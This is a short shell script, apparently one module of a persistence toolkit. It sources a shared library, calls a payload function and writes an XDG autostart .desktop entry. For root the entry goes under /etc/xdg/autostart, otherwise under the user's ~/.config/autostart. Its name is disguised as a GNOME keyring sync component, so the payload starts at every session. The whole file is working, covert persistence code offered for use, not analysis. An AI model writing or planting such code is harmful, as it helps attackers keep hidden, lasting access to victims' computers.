#!/bin/sh
# xdg-autostart: a program of every session (XDG autostart)
. "${0%/*}/lib.sh"
payload
if [ "$who" = root ]; then d=/etc/xdg/autostart; else d=$home/.config/autostart; fi
put "$d/$(named sync gnome-keyring-pkcs12).desktop" 644 "$head" \
	"[Desktop Entry]" "Type=Application" "Name=Sync" "Exec=$argv"
